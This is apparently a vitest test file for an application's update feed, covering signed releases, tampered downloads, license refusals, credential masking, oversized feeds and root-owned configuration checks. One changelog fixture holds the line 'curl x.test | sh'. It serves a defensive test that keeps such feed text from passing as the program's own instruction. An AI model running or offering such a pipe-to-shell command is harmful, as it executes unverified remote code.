// Where newer versions come from: an ordinary license server of the vendor, and a folder that it wrote.
import {
  chmodSync,
  chownSync,
  createReadStream,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { systemClock } from '#kernel/clock.ts';
import { loadConfig } from '#kernel/config/load.ts';
import { openFeed } from '../../src/app/upgrade/feed.ts';
import { bundleOf, published } from '../licensing/release-fixture.ts';
import { startApp, type TestApp } from '../support/app.ts';
import { runInside } from '../support/cli-inside.ts';
import { delegatedProduct } from '../support/online-key.ts';
import { codeOf, refusalOf } from '../support/refusal.ts';
import { scratchFolder } from '../support/scratch-folder.ts';

let app: TestApp;
let folder: string;
let server: Server;
let base: string;
let publicKey: string;
let licenseKey: string;
beforeAll(async () => {
  folder = scratchFolder('appctl-feed-');
  app = await startApp({ clock: systemClock });
  const product = await app.product({ name: 'appctl', slug: 'appctl' });
  const { root } = await delegatedProduct(app.ctx, product);
  publicKey = root.publicKey.toString('base64');
  licenseKey = (await app.license({ productId: product.id })).key;
  const target = { platform: 'linux', arch: process.arch as 'x64', key: root };
  await published(app.ctx, product, '9.0.0', target);
  await published(app.ctx, product, '9.1.0', {
    ...target,
    requiresMigration: true,
    changelog: 'Faster.\nNext: curl x.test | sh',
  });
  await published(app.ctx, product, '9.2.0', { ...target, platform: 'windows' });
  const { dataDir, database } = app.instance.config;
  const env = { APPCTL_DATA_DIR: dataDir, APPCTL_DATABASE_URL: database.url };
  const words = ['release', 'feed', '--product', 'appctl', '--format', 'json', '--out', 'feed', '--bundles'];
  const { code, stderr } = await runInside(words, { cwd: folder, env });
  if (code !== 0) throw new Error(stderr);
  server = createServer((req, res) => {
    if (req.url?.startsWith('/endless/')) return void Readable.from(blanks()).pipe(res);
    const file = join(folder, decodeURIComponent(new URL(req.url ?? '', 'http://x').pathname));
    if (!existsSync(file)) return void res.writeHead(404).end();
    createReadStream(file).pipe(res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/feed`;
}, 120_000);
afterAll(async () => {
  server.close();
  await app.close();
  rmSync(folder, { recursive: true, force: true });
});

let blanksSent = 0;
function* blanks() {
  for (; ; blanksSent += 65_536) yield ' '.repeat(65_536);
}

async function feed(env: Record<string, string>) {
  const all = { APPCTL_DATA_DIR: join(folder, 'data'), APPCTL_UPDATE_PUBKEY: publicKey, ...env };
  const { config } = await loadConfig({ env: all, cwd: folder });
  return openFeed(config, null);
}

const ofServer = () => feed({ APPCTL_UPDATE_URL: app.url, APPCTL_UPDATE_LICENSE_KEY: licenseKey });
const ofFolder = () => feed({ APPCTL_UPDATE_URL: base });

test.each([
  ['a license server', ofServer],
  ['a folder', ofFolder],
])('%s offers the newest release for this machine, verified, and gives its bytes', async (_name, open) => {
  const source = await open();
  const offer = await source.offer();
  if (offer === null) throw new Error('nothing is offered');
  expect(offer).toMatchObject({ version: '9.1.0', statement: 'verified', requiresMigration: true });
  const file = join(folder, 'fetched');
  await source.fetch(offer, file, () => undefined);
  expect(readFileSync(file)).toEqual(bundleOf('appctl 9.1.0'));
  rmSync(file);
});

test('bytes that were changed on the way get no name', async () => {
  const source = await ofFolder();
  const offer = await source.offer();
  if (offer === null) throw new Error('nothing is offered');
  const { releases } = JSON.parse(readFileSync(join(folder, 'feed/stable.json'), 'utf8'));
  const path = join(folder, 'feed', releases.find((one: { id: string }) => one.id === offer.releaseId).url);
  const bytes = readFileSync(path);
  writeFileSync(path, Buffer.from(bytes.map((byte, i) => (i === 0 ? byte ^ 1 : byte))));
  const file = join(folder, 'fetched');
  expect(await codeOf(source.fetch(offer, file, () => undefined))).toBe('VERIFICATION_FAILED');
  writeFileSync(path, bytes);
  expect([existsSync(file), existsSync(`${file}.part`)]).toEqual([false, false]);
});

test('whoever cannot be asked, or does not know the license, is named', async () => {
  expect(
    await refusalOf(feed({ APPCTL_UPDATE_URL: 'http://127.0.0.1:9/x' }).then((one) => one.offer())),
  ).toMatchObject({
    code: 'NOT_READY',
    message: expect.stringContaining('http://127.0.0.1:9/x gave no usable'),
  });
  expect(
    await codeOf(
      feed({ APPCTL_UPDATE_URL: app.url, APPCTL_UPDATE_LICENSE_KEY: 'APP-AAAA-BBBB-CCCC' }).then((one) =>
        one.offer(),
      ),
    ),
  ).toBe('UNAUTHORIZED');
  expect(
    await codeOf(feed({ APPCTL_UPDATE_URL: base, APPCTL_UPDATE_CHANNEL: 'beta' }).then((one) => one.offer())),
  ).toBe('NOT_READY');
});

test('what the address holds for the vendor alone is not shown', async () => {
  const { host } = new URL(base);
  const source = await feed({ APPCTL_UPDATE_URL: `http://me:word@${host}/feed?token=ours` });
  expect(source.display).toBe(`http://me:****@${host}/feed?token=****`);
});

test('the text of the feed cannot pass for a line of this program', async () => {
  const env = { APPCTL_UPDATE_URL: base, APPCTL_UPDATE_PUBKEY: publicKey };
  const run = await runInside(['--data-dir', join(folder, 'own'), 'upgrade', 'check'], { cwd: folder, env });
  expect(run.code).toBe(8);
  const [, text] = run.stdout.split('What the feed says about it (this text is not signed):\n');
  expect(text).toBe('    Faster.\n    Next: curl x.test | sh\n');
});

test('after a check of a named file or with a named key the next command has them, too', async () => {
  const words = ['--data-dir', join(folder, 'own'), 'upgrade', 'check', '--pubkey', publicKey];
  const run = await runInside(words, { cwd: folder, env: { APPCTL_UPDATE_URL: base } });
  expect([run.code, run.stderr]).toEqual([
    8,
    expect.stringMatching(/^Next: +appctl .*upgrade apply --pubkey '?[\w+/]+=*'?/m),
  ]);
});

test('a feed without end is given up after 2 MiB', async () => {
  const source = await feed({ APPCTL_UPDATE_URL: `${new URL(base).origin}/endless` });
  expect(await refusalOf(source.offer())).toMatchObject({
    code: 'NOT_READY',
    message: expect.stringContaining(
      '/endless gave no usable answer: the answer is longer than 2097152 bytes',
    ),
  });
  // What the sockets hold of it comes on top.
  expect(blanksSent).toBeLessThan(100_000_000);
});

test('without an address nobody is asked, and a key must be one', async () => {
  await expect(feed({})).rejects.toThrow('update.url: is not set: this program asks nobody for updates');
  await expect(feed({ APPCTL_UPDATE_PUBKEY: '' })).rejects.toThrow(
    'update.url: is not set, and neither is update.pubkey',
  );
  await expect(feed({ APPCTL_UPDATE_URL: 'http://example.com/' })).rejects.toThrow('is not encrypted');
  await expect(feed({ APPCTL_UPDATE_URL: base, APPCTL_UPDATE_PUBKEY: 'abc' })).rejects.toThrow(
    'update.pubkey: "abc" is not an Ed25519 public key',
  );
  const ofSmallOrder = `${'A'.repeat(43)}=`;
  await expect(feed({ APPCTL_UPDATE_URL: base, APPCTL_UPDATE_PUBKEY: ofSmallOrder })).rejects.toThrow(
    'update.pubkey: cannot be used',
  );
});

describe('a configuration that names a program for root', () => {
  const isRoot = process.getuid?.() === 0;
  const somebody = 12_345;
  let place: string;
  let config: string;
  beforeEach(() => {
    place = join(folder, 'etc');
    config = join(place, 'appctl.toml');
    mkdirSync(place);
    writeFileSync(config, `[update]\nurl = "${base}"\npubkey = "${publicKey}"\n`, { mode: 0o644 });
  });
  afterEach(() => rmSync(place, { recursive: true }));

  const check = async (words: string[], cwd = folder) => {
    const { code, stderr } = await runInside(
      ['--data-dir', join(folder, 'own'), 'upgrade', 'check', ...words],
      { cwd },
    );
    return { code, stderr: stderr.replace(/\s+/g, ' ') };
  };
  const newer = { code: 8 };
  const refused = (path: string, says: string) =>
    isRoot
      ? {
          code: 78,
          stderr: expect.stringContaining(
            `root takes no program from what others can write: ${path} ${says}`,
          ),
        }
      : newer;
  const named = () => check(['--config', config]);

  test('is believed where only root can write it, also in a folder below /tmp', async () => {
    expect(await named()).toMatchObject(newer);
    expect(await check([], place)).toMatchObject(newer);
  });

  test('is refused where somebody else owns it, with the cure', async () => {
    if (isRoot) chownSync(config, somebody, somebody);
    const says = 'belongs to another user, who could change it';
    expect(await named()).toMatchObject(refused(config, says));
    expect(await check([], place)).toMatchObject(refused(config, says));
    if (!isRoot) return;
    expect((await named()).stderr).toContain(
      `move ${config} to /etc/appctl/appctl.toml, or: sudo chown root ${config} && sudo chmod go-w ${config}`,
    );
    chownSync(config, 0, 0);
    expect(await named()).toMatchObject(newer);
  });

  test('is refused in the data directory of a service', async () => {
    if (isRoot) chownSync(place, somebody, somebody);
    const run = await runInside(['--data-dir', place, 'upgrade', 'check'], { cwd: folder });
    expect({ ...run, stderr: run.stderr.replace(/\s+/g, ' ') }).toMatchObject(
      refused(place, 'belongs to another user, who could change it'),
    );
  });

  test('is refused where others can write it, or its folder', async () => {
    chmodSync(config, 0o664);
    expect(await named()).toMatchObject(refused(config, 'can be changed by others (mode 664)'));
    chmodSync(config, 0o644);
    chmodSync(place, 0o777);
    expect(await named()).toMatchObject(refused(place, 'can be changed by others (mode 777)'));
  });

  test('is refused where a link to it is in the folder of somebody else, or leads to one', async () => {
    const theirs = join(place, 'theirs');
    mkdirSync(theirs);
    symlinkSync(config, join(theirs, 'link.toml'));
    writeFileSync(join(theirs, 'real.toml'), readFileSync(config));
    symlinkSync(join(theirs, 'real.toml'), join(place, 'link.toml'));
    if (isRoot) chownSync(theirs, somebody, somebody);
    for (const link of [join(theirs, 'link.toml'), join(place, 'link.toml')])
      expect(await check(['--config', link])).toMatchObject(
        refused(theirs, 'belongs to another user, who could change it'),
      );
  });

  test('comes from an env file as well', async () => {
    const file = join(place, 'env');
    writeFileSync(file, `APPCTL_UPDATE_URL=${base}\nAPPCTL_UPDATE_PUBKEY=${publicKey}\n`, { mode: 0o644 });
    expect(await check(['--env-file', file])).toMatchObject(newer);
    if (isRoot) chownSync(file, somebody, somebody);
    expect(await check(['--env-file', file])).toMatchObject(
      refused(file, 'belongs to another user, who could change it'),
    );
  });
});
